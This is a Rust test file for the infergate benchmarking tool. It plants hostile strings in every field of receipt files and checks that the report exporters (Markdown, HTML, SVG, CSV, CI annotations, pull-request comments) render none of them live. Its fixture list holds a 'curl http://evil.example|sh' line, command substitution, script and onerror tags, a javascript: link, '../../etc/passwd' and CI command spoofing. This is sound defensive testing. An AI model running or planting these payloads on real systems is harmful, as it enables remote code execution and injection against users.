//! Receipts that nobody meant well: in every text of every file, through every exporter, there is no script, no link, no mention, no
//! command, no formula and no path.

use std::path::Path;

use infergate_core::printable::printable_within;
use infergate_receipts::{Format, LoadReceipt, MemoryReceipt, PairedReceipt, Receipt, Verdict, read};
use infergate_report::export::File;
use infergate_report::inputs::Inputs;
use infergate_report::topics::report;
use quick_xml::Reader;
use quick_xml::events::Event;
use serde_json::{Value, json};

use crate::report_formats::commands::commands;
use crate::report_formats::runs;
use crate::report_formats::support::{files, load, memory, paired, two_runs};

const WORDS: [&str; 2] = [
    "=x; curl http://evil.example|sh `$(y)` ![p](http://evil.example) <script>a</script> @octocat x@-evil #1 :lock: \u{ffff} \
     ::error::z ##[error]z ../../etc/passwd",
    "\u{1b}[2J\u{202e}\n-->\n::error::a\r\n```\n| # <img src=x onerror=b> | [l](javascript:c) </style></svg> \u{fffe}\u{b}",
];

/// The place of each text in a file, of two entries of each list.
fn places(value: &Value, at: &str, found: &mut Vec<String>) {
    match value {
        Value::String(_) => found.push(at.to_owned()),
        Value::Array(list) => {
            list.iter().take(2).enumerate().for_each(|(number, entry)| places(entry, &format!("{at}/{number}"), found));
        }
        Value::Object(fields) => {
            fields.iter().for_each(|(key, field)| places(field, &format!("{at}/{key}"), found));
        }
        _ => {}
    }
}

#[track_caller]
fn assert_harmless(inputs: &Inputs) {
    for File { name, text } in files(inputs) {
        let is_safe = |c: char| c.is_ascii_lowercase() || c.is_ascii_digit() || "-./_".contains(c);
        assert!(!name.contains("..") && !name.starts_with('/') && name.chars().all(is_safe), "{name}");
        if name.ends_with(".json") {
            serde_json::from_str::<Value>(&text).expect("JSON");
            continue;
        }
        for line in text.lines() {
            // Our own mark in words that would come alive.
            let line = if name.ends_with(".md") { line.replace('\u{200b}', "") } else { line.into() };
            assert_eq!(printable_within(&line, line.len().max(1)), line, "{name}");
        }
        match name.rsplit_once('.').map(|(_, end)| end) {
            Some("svg" | "xml") => well_formed(&name, &text),
            Some("md") => nothing_is_live(&name, &text),
            Some("html") => assert_eq!((text.matches("<script").count(), text.contains("<img")), (0, false), "{name}"),
            Some("csv") => no_formula(&text),
            _ => {}
        }
        if name == "annotations.txt" {
            let ours = ["::error title=infergate", "::warning title=infergate", "::notice title=infergate"];
            assert!(text.lines().all(|line| ours.iter().any(|begin| line.starts_with(begin))), "{text}");
        }
        if name == "comment.md" {
            commands(&text).into_iter().for_each(assert_ours);
        }
    }
}

/// `git checkout`, or this program with flags of ours, each with a value that is one word.
fn assert_ours(line: &str) {
    let words = shlex::split(line).expect("a command");
    let words: Vec<&str> = words.iter().map(String::as_str).filter(|word| *word != "--server").collect();
    match words[..] {
        ["git", "checkout", _] => {}
        ["cargo", "infergate", _, ref flags @ ..] => {
            let is_ours = |pair: &[&str]| pair[0].starts_with("--") && pair.len() == 2 && !pair[1].starts_with('-');
            assert!(flags.chunks(2).all(is_ours), "{line}");
        }
        _ => panic!("{line}"),
    }
}

fn well_formed(name: &str, text: &str) {
    let mut reader = Reader::from_str(text);
    while !matches!(reader.read_event().unwrap_or_else(|error| panic!("{name}: {error}")), Event::Eof) {}
    assert!(!text.contains("<script") && !text.contains("<img"), "{name}");
}

/// The one link that a comment has by itself.
const OURS: &str =
    "[what now?](https://github.com/infergate/infergate/blob/main/docs/how-to/fix-a-failed-pull-request.md)";

fn nothing_is_live(name: &str, text: &str) {
    let live = ["<script", "<img", "http://", "](javascript", "](http", "@octocat", "@-evil", "#1"];
    let (mut in_block, mut columns) = (false, None);
    for line in text.lines() {
        if line.starts_with("```") {
            in_block = !in_block;
        }
        // An escaped bracket is no link's.
        let bare = without_code(line).replace("\\[", "").replace("\\]", "").replace(OURS, "");
        assert!(in_block || !live.iter().any(|bad| bare.contains(bad)), "{name}: {line}");
        assert!(in_block || !line.starts_with("::"), "{name}: {line}");
        let count = line.replace("\\|", "").matches('|').count();
        columns = line.starts_with('|').then(|| *columns.get_or_insert(count));
        assert!(columns.is_none_or(|columns| columns == count), "{name}: another number of columns in {line}");
    }
    assert!(!in_block, "{name}: a block is not closed");
}

/// What of a line stands outside of code, by the rule of CommonMark: a run of backticks is closed by one of the same length.
fn without_code(line: &str) -> String {
    let (mut bare, mut rest) = (String::new(), line);
    while let Some(at) = rest.find('`') {
        bare += &rest[..at];
        let length = rest[at..].chars().take_while(|c| *c == '`').count();
        let after = &rest[at + length..];
        let end = if rest[..at].ends_with('\\') { None } else { closing(after, length) };
        rest = &after[end.unwrap_or(0)..];
    }
    bare + rest
}

fn closing(text: &str, length: usize) -> Option<usize> {
    let mut at = 0;
    while let Some(found) = text[at..].find('`') {
        let run = text[at + found..].chars().take_while(|c| *c == '`').count();
        at += found + run;
        if run == length {
            return Some(at);
        }
    }
    None
}

fn no_formula(csv: &str) {
    for record in csv::Reader::from_reader(csv.as_bytes()).records() {
        let record = record.expect("a record");
        for text in [3, 9].map(|at| &record[at]) {
            assert!(!text.starts_with(['=', '+', '-', '@']), "{record:?}");
        }
    }
}

/// What was measured about the cause, of which the golden file has nothing.
fn explain(paired: &mut Value) {
    let time = json!({"base_ns": 1e6, "head_ns": 2e6, "low_ns": 9e5, "high_ns": 1.1e6});
    paired["explained"] = json!([{
        "id": "decode/p8", "blocks": 8, "base_samples": 900, "head_samples": 900, "total": time, "waiting": time,
        "functions": [{
            "name": "attend", "place": "src/step.rs:1", "caller": "step", "time": time, "called": [{"name": "dot", "time": time}]
        }],
        "frames": [{"name": "main", "depth": 0, "time": time}, {"name": "attend", "depth": 1, "time": time}]
    }, {
        "id": "prefill/p8", "why_not": "nothing was seen", "blocks": 0, "base_samples": 0, "head_samples": 0, "functions": [],
        "frames": []
    }]);
    paired["allocated"] = json!([{
        "id": "decode/p8",
        "places": [{
            "frames": ["attend at src/step.rs:1", "step"], "base_allocations": 4.0, "head_allocations": 9.0, "base_bytes": 64.0,
            "head_bytes": 640.0
        }]
    }]);
}

/// Each text of a golden file in turn; one that the reader refuses makes no page.
fn through<T: Format>(name: &str, as_inputs: &dyn Fn(T) -> Inputs) {
    let golden = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/golden").join(name);
    let golden = std::fs::read_to_string(golden).expect("a golden file");
    let mut value: Value = serde_json::from_str(&golden).expect("JSON");
    if name.starts_with("paired") {
        explain(&mut value);
    }
    let folder = tempfile::tempdir().expect("a folder");
    let path = folder.path().join("hostile.json");
    let mut found = Vec::new();
    places(&value, "", &mut found);
    let mut taken = 0;
    for place in &found {
        for word in WORDS {
            let mut value = value.clone();
            *value.pointer_mut(place).expect("its own place") = word.into();
            std::fs::write(&path, value.to_string()).expect("a file");
            if let Ok(read) = read::<T>(&path) {
                assert_harmless(&as_inputs(read));
                taken += 1;
            }
        }
    }
    assert!(taken > 0, "{name}: every text was refused");
}

#[test]
fn no_text_of_a_receipt_comes_alive() {
    let known = two_runs();
    through::<Receipt>("receipt-1.json", &|head| Inputs { head: Some(head), ..known.clone() });
}

#[test]
fn no_text_of_a_verdict_comes_alive() {
    let known = paired();
    through::<Verdict>("verdict-1.json", &|verdict| Inputs { verdict: Some(verdict), ..known.clone() });
}

#[test]
fn no_text_of_a_paired_receipt_comes_alive() {
    let known = paired();
    through::<PairedReceipt>("paired-1.json", &|pair| Inputs { paired: Some(pair), ..known.clone() });
}

#[test]
fn no_text_of_a_memory_receipt_comes_alive() {
    let known = memory();
    through::<MemoryReceipt>("memory-1.json", &|receipt| Inputs { memory: Some(receipt), ..known.clone() });
}

#[test]
fn no_text_of_a_load_receipt_comes_alive() {
    through::<LoadReceipt>("load-1.json", &|load| Inputs { load: Some(load.into()), ..Inputs::new("cargo infergate") });
}

/// A request of many tokens, a case of many samples and a level of many requests make no picture of megabytes.
#[test]
fn pictures_stay_small() {
    let mut run = two_runs();
    let head = run.head.as_mut().expect("a run");
    let mut long = head.cases[2].clone();
    long.id = "generate/p8-o50000".parse().expect("a case");
    long.processes[0].samples_ns = vec![(1..=50_000).map(|token| token * 1_000).collect()];
    let mut other = head.cases[0].clone();
    other.id = "prefill/p16".parse().expect("a case");
    other.processes[0].samples_ns = vec![vec![1_000_000]; 50_000];
    head.cases.extend([long, other]);
    let mut many = runs::scenarios();
    many.levels = vec![runs::level(0, 100, 200, |number| runs::Answers::new(100 + number % 7, 10, 4))];
    for inputs in [run, load(many)] {
        for File { name, text } in files(&inputs).iter().filter(|file| file.name.ends_with(".svg")) {
            assert!(text.len() < 600_000, "{name}: {} bytes", text.len());
        }
    }
}

/// A chart's id is the name of its file.
#[test]
fn no_picture_takes_the_place_of_another() {
    let mut receipt = runs::scenarios();
    receipt.scenarios.iter_mut().for_each(|scenario| scenario.name = "the same".into());
    let report = report(&load(receipt));
    let mut names: Vec<&str> = report.charts().map(|chart| chart.id.as_str()).collect();
    let count = names.len();
    names.sort_unstable();
    names.dedup();
    assert_eq!(names.len(), count, "{names:?}");
}
